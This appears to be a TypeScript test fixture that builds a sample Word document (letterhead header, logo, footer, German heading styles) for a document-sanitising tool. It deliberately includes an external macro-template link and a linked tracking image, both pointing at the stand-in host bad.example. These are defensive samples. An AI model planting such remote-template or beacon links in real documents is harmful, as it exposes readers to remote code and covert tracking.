import { readZip, writeZip } from '../zip/zip';

const W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"';
const OFFICE = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';
const PNG = Buffer.from('iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==', 'base64');

const rels = (...lines: string[]): string => `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">${lines.join('')}</Relationships>`;
const rel = (id: string, type: string, target: string, more = ''): string => `<Relationship Id="${id}" Type="${OFFICE}/${type}" Target="${target}"${more}/>`;

/** What a Word document of an organisation holds; its Word speaks German, so its headings have ids of their own. */
const parts: Readonly<Record<string, string | Buffer>> = {
  '[Content_Types].xml': '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="xml" ContentType="application/xml"/></Types>',
  'word/document.xml': `<w:document ${W}><w:body><w:p/><w:sectPr><w:headerReference w:type="first" r:id="rId8"/><w:headerReference w:type="default" r:id="rId9"/><w:footerReference w:type="default" r:id="rId10"/></w:sectPr></w:body></w:document>`,
  'word/_rels/document.xml.rels': rels(rel('rId9', 'header', 'header2.xml'), rel('rId10', 'footer', 'footer2.xml'), rel('rId11', 'attachedTemplate', 'https://bad.example/t.dotm', ' TargetMode="External"')),
  'word/styles.xml': `<?xml version="1.0"?><w:styles ${W}><w:docDefaults><w:rPrDefault><w:rPr><w:rFonts w:ascii="Own Sans"/></w:rPr></w:rPrDefault></w:docDefaults><w:style w:type="paragraph" w:default="1" w:styleId="Standard"><w:name w:val="Normal"/></w:style><w:style w:type="paragraph" w:styleId="berschrift1"><w:name w:val="heading 1"/><w:basedOn w:val="Standard"/><w:pPr><w:numPr><w:numId w:val="7"/></w:numPr></w:pPr><w:rPr><w:color w:val="AB12CD"/></w:rPr></w:style></w:styles>`,
  'word/header2.xml': `<w:hdr ${W}><w:p><w:r><w:t>Meadow House Trust letterhead</w:t></w:r><w:r><w:drawing><a:blip xmlns:a="urn:a" r:embed="rId1"/><a:blip xmlns:a="urn:a" r:link="rId2"/></w:drawing></w:r></w:p></w:hdr>`,
  'word/_rels/header2.xml.rels': rels(rel('rId1', 'image', 'media/logo.png'), rel('rId2', 'image', 'https://bad.example/seen.png', ' TargetMode="External"')),
  'word/footer2.xml': `<w:ftr ${W}><w:p><w:r><w:t>Meadow House, company number 12</w:t></w:r></w:p></w:ftr>`,
  'word/media/logo.png': PNG,
};

/** A Word document of an organisation, some of its parts as a spec wants them (null: left out). */
export function ownDocument(changes: Readonly<Record<string, string | Buffer | null>> = {}): Buffer {
  const files = Object.entries({ ...parts, ...changes }).filter((entry): entry is [string, string | Buffer] => entry[1] !== null);
  return writeZip(new Map(files.map(([path, content]) => [path, Buffer.from(content)])));
}

/** A header with something in it. */
export const headerWith = (content: string): Record<string, string> => ({ 'word/header2.xml': `<w:hdr ${W}><w:p>${content}</w:p></w:hdr>` });

export const textOf = (bytes: Buffer, path: string): string => readZip(bytes).get(path)?.toString('utf8') ?? '';
